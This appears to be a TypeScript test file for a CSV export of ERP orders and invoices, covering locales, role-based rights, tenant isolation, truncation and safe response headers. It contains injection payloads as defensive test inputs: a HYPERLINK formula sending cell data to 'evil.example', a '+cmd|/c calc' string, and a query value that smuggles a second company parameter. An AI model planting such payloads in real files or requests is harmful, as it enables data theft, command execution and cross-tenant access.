import assert from 'node:assert/strict'
import { describe, it } from 'node:test'

import { DEMO_SETTINGS } from '../../dev/local-store'
import type { DemoPerson } from '../../dev/platform/people'
import { allInvoices, unitsOf } from './invoice-lists'
import { askExport, exported, readSpreadsheet } from './export-file'
import { useStoreOfPagedErp } from './paged-erp'
import { accountsWithRoles } from './rights-account'
import { erpRequests, found, useLocalStore } from './store'

describe('an export', () => {
  const store = useLocalStore()
  const sheet = async (path: string, who: DemoPerson = 'ana', separator: ',' | ';' = ',') =>
    readSpreadsheet(await exported(store(), who, path), separator)

  it('of orders is what the search finds, all pages, in its order', async () => {
    const { total } = await found(store(), 'ana', {
      variables: { search: { statuses: ['SHIPPED'] }, first: 100 },
    })
    await erpRequests(store())
    const { rows, lastLine } = await sheet('orders?status=SHIPPED&lang=en')
    assert.ok(total !== null && total > 100)
    assert.equal(rows.length, total)
    assert.equal(new Set(rows.map((row) => row['ERP order'])).size, total)
    assert.ok(rows.every((row) => row.Status === 'Shipped'))
    assert.equal(lastLine, `Complete: ${total} rows.`)
    assert.equal((await erpRequests(store())).length, Math.ceil(total / 100))
  })

  it('of one order by its number reads it as the list does', async () => {
    const { rows } = await sheet('orders?number=V10428831NRT-01&lang=en')
    assert.deepEqual(
      rows.map((row) => [row['ERP order'], row['My order'], row.Total, row.Currency]),
      [["'0000458812", 'PO-4500', '6875.00', 'BRL']]
    )
  })

  for (const [lang, separator, name, status, total, end] of [
    ['en', ',', 'ERP order', 'Status', '6875.00', 'Complete: 1 row.'],
    ['es-CL', ';', 'Pedido ERP', 'Estado', '6875,00', 'Completo: 1 fila.'],
    ['es-MX', ',', 'Pedido ERP', 'Estado', '6875.00', 'Completo: 1 fila.'],
    ['pt-BR', ';', 'Pedido no ERP', 'Situação', '6875,00', 'Completo: 1 linha.'],
  ] as const) {
    it(`in ${lang} opens right in that region's spreadsheet`, async () => {
      const path = `orders?number=0000458812&lang=${lang}`
      const text = await exported(store(), 'ana', path)
      assert.equal(text.charCodeAt(0), 0xfeff)
      assert.doesNotMatch(text, /[^\r]\n/)
      const { header, rows, lastLine } = readSpreadsheet(text, separator)
      assert.ok(header.includes(status))
      assert.equal(rows[0]?.[name], "'0000458812")
      assert.equal(rows[0]?.Total, total)
      assert.match(Object.values(rows[0] ?? {}).join(' '), /\d{4}-\d{2}-\d{2}/)
      assert.equal(lastLine, end)
    })
  }

  it('of invoices holds the same as their list, and adds up', async () => {
    const expected = await allInvoices(store(), 'ana', { state: 'OPEN' })
    const { rows } = await sheet('invoices?view=invoices&state=OPEN&lang=en')
    const numbersOf = (numbers: ReadonlyArray<string | null | undefined>) => [...numbers].sort()
    assert.deepEqual(
      numbersOf(rows.map((row) => row.Invoice?.replace(/^'/, ''))),
      numbersOf(expected.map(({ invoiceNumber }) => invoiceNumber))
    )
    const inReais = rows.filter((row) => row.Currency === 'BRL')
    const sum = inReais.reduce((all, row) => all + unitsOf(row['To pay'] ?? '0'), 0n)
    const listed = expected
      .filter(({ open }) => open?.currency === 'BRL')
      .map(({ kind, open }) => unitsOf(open?.amount ?? '0') * (kind === 'CREDIT_NOTE' ? -1n : 1n))
    assert.equal(
      sum,
      listed.reduce((all, one) => all + one, 0n)
    )
    assert.ok(rows.some((row) => row.Kind === 'Credit note' && row['To pay']?.startsWith('-')))
  })

  it('is a file of the day that nothing keeps, guesses at or runs', async () => {
    const response = await askExport(store(), 'ana', 'orders?number=0000458812')
    await response.arrayBuffer()
    const header = (name: string) => response.headers.get(name)
    assert.match(
      header('content-disposition') ?? '',
      /^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/
    )
    assert.equal(header('content-type'), 'text/csv; charset=utf-8')
    assert.match(header('cache-control') ?? '', /no-store/)
    assert.equal(header('x-content-type-options'), 'nosniff')
    assert.match(header('content-security-policy') ?? '', /sandbox/)
  })

  for (const [what, path, status, code] of [
    ['a status that there is not', 'orders?status=GONE', 400, 'INVALID_QUERY'],
    ['a number twice', 'orders?number=1&number=2', 400, 'INVALID_QUERY'],
    ['a day that does not exist', 'invoices?dueFrom=2026-02-30', 400, 'INVALID_QUERY'],
    ['a list that there is not', 'customers', 404, 'NOT_FOUND'],
    ['a list that names an object’s own', 'constructor', 404, 'NOT_FOUND'],
  ] as const) {
    it(`of ${what} is refused as JSON, and the ERP is not asked`, async () => {
      await erpRequests(store())
      const response = await askExport(store(), 'ana', path)
      assert.equal(response.status, status)
      assert.equal(((await response.json()) as { code: string }).code, code)
      assert.deepEqual(await erpRequests(store()), [])
    })
  }

  it('holds no order of another company, whatever is put into its address', async () => {
    for (const path of [
      'orders?company=C-2001',
      'orders?number=x%26company%3DC-2001',
      'orders?companies=C-2001',
    ]) {
      const { rows } = await sheet(`${path}&lang=en`)
      assert.ok(rows.every((row) => row['Company in the ERP']?.startsWith('C-100')))
    }
    assert.equal((await askExport(store(), null, 'orders')).status, 401)
    assert.equal((await askExport(store(), 'nina', 'orders')).status, 403)
  })
})

describe('the rights of who exports', () => {
  const store = useLocalStore({
    settings: { ...DEMO_SETTINGS, accessMode: 'roles' },
    accounts: accountsWithRoles({
      'role-admin': ['organization-orders', 'view-invoices', 'export-orders'],
      'role-buyer': ['own-orders', 'view-prices', 'export-orders'],
      'role-approver': ['organization-orders', 'view-invoices', 'view-prices'],
    }),
  })

  const refused = async (who: DemoPerson, path: string) => {
    await erpRequests(store())
    const response = await askExport(store(), who, path)
    const { code, reason } = (await response.json()) as Record<string, string>
    assert.deepEqual(await erpRequests(store()), [])
    return [response.status, code, reason]
  }

  it('are asked for that of exporting, and the ERP is not asked without it', async () => {
    for (const kind of ['orders', 'invoices']) {
      assert.deepEqual(await refused('david', kind), [403, 'NO_ACCESS', 'NO_RIGHTS'])
    }
  })

  it('give no amount without that to see prices', async () => {
    for (const kind of ['orders', 'invoices']) {
      const text = await exported(store(), 'ana', `${kind}?lang=en`)
      const { rows } = readSpreadsheet(text, ',')
      assert.ok(rows.length > 0)
      for (const row of rows) {
        for (const name of ['Total', 'Total before tax', 'To pay', 'Overdue', 'Currency']) {
          assert.equal(row[name] ?? '', '')
        }
      }
    }
  })

  it('give no invoice without that to see invoices', async () => {
    assert.deepEqual(await refused('bruno', 'invoices'), [403, 'NO_ACCESS', 'NO_RIGHTS'])
  })

  it('give to one who may see their own orders no other', async () => {
    const { rows } = readSpreadsheet(await exported(store(), 'bruno', 'orders?lang=en'), ',')
    assert.ok(rows.length > 0)
    assert.ok(rows.every((row) => row['Placed by'] === 'bruno.lima@norte.example'))
    assert.ok(rows.every((row) => row.Payment === 'Not known'))
  })
})

describe('an ERP in an export', () => {
  const { store, scripted } = useStoreOfPagedErp()

  it('of more than 5,000 orders is cut there, and the last line says so', async () => {
    scripted({ count: 5001 })
    const { rows, lastLine } = readSpreadsheet(
      await exported(store(), 'ana', 'orders?lang=en'),
      ','
    )
    assert.equal(rows.length, 5000)
    assert.equal(lastLine, 'Cut at 5000 rows: there is more. Narrow the search.')
    scripted({ count: 5000 })
    const whole = readSpreadsheet(await exported(store(), 'ana', 'orders?lang=en'), ',')
    assert.equal(whole.lastLine, 'Complete: 5000 rows.')
  })

  it('that fails on the way leaves a line that says so, and a download that failed', async () => {
    scripted({ count: 500, failsFrom: 300 })
    const response = await askExport(store(), 'ana', 'orders?lang=en')
    assert.equal(response.status, 200)
    let text = ''
    await assert.rejects(async () => {
      const reader = response.body?.getReader()
      for (;;) {
        const { done, value } = (await reader?.read()) ?? { done: true }
        if (done) return
        text += Buffer.from(value ?? []).toString()
      }
    })
    assert.match(text, /\r\nIncomplete: something failed after 300 rows\. Export again\.\r\n$/)
  })

  it('that fails at once is an error and no file', async () => {
    scripted({ count: 500, failsFrom: 0 })
    const response = await askExport(store(), 'ana', 'orders')
    assert.equal(response.status, 502)
    assert.equal(response.headers.get('content-disposition'), null)
    assert.equal(((await response.json()) as { code: string }).code, 'ERP_UNAVAILABLE')
  })

  it('whose texts are formulas runs none in a spreadsheet, read with either separator', async () => {
    const formula = '=HYPERLINK("https://evil.example?"&A1;"x")'
    const fields = {
      ...{ customerOrderNumber: formula, placedBy: '+cmd|/c calc', costCenter: 'A;=1+1,=2+2' },
      ...{ ownerName: '@SUM(1)', statusLabel: '\t-1+1' },
    }
    scripted({ count: 2, fields })
    for (const lang of ['en', 'pt']) {
      const text = await exported(store(), 'ana', `orders?lang=${lang}`)
      for (const separator of [',', ';']) {
        const cells = text.split(/\r\n/).flatMap((line) => line.split(separator))
        for (const cell of cells) assert.doesNotMatch(cell, /^["'\s]*(?<!')[=+@-](?!\d+$)/, cell)
      }
    }
  })
})
